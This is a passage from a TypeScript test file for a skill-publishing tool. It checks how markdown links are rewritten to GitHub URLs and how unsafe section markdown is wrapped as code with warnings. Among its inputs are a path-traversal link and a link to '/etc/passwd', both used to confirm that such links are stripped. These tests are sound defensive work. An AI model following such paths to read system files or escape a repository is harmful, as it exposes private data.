      '[a](https://github.com/ann/skills/blob/abc123/skills/far-skill/scripts/x.py#L3)',
    ],
    [
      'a file beside it upstream',
      '[a](../other/SKILL.md)',
      '[a](https://github.com/ann/skills/blob/abc123/skills/other/SKILL.md)',
    ],
    ['a path out of the repository', '[a](../../../../x)', 'a'],
    ['a path from the root', '[a](/etc/passwd)', 'a'],
  ])('%s', (_, body, expected) => {
    expect(part(write(body), 'about')).toBe(expected)
  })
})

test('a section that would add headings, or not end, is shown as code and told apart', () => {
  const sections = [
    { id: 'inputs', heading: 'Inputs', markdown: 'A table.' },
    { id: 'outputs', heading: 'Outputs', markdown: '## Install' },
    { id: 'limitations', heading: 'Limitations', markdown: '```\nopen' },
  ]
  const contain = (parts: Skill['parts']) => containSections({ slug: 'a', parts }, sections)
  const { sections: contained, warnings } = contain({})
  expect(contained.map(({ markdown }) => markdown)).toEqual([
    'A table.',
    '```markdown\n## Install\n```',
    '````markdown\n```\nopen\n````',
  ])
  expect(warnings).toEqual([
    expect.objectContaining({
      file: 'skills/a/SKILL.md',
      remedy: expect.stringContaining('"Outputs"'),
    }),
    expect.objectContaining({
      file: 'skills/a/SKILL.md',
      remedy: expect.stringContaining('"Limitations"'),
    }),
  ])
  expect(contain({ limitations: ['x'] }).warnings).toMatchObject([
    { file: 'skills/a/SKILL.md', field: '' },
    { file: 'skills/a/skill.json', field: 'parts.limitations' },
  ])
})
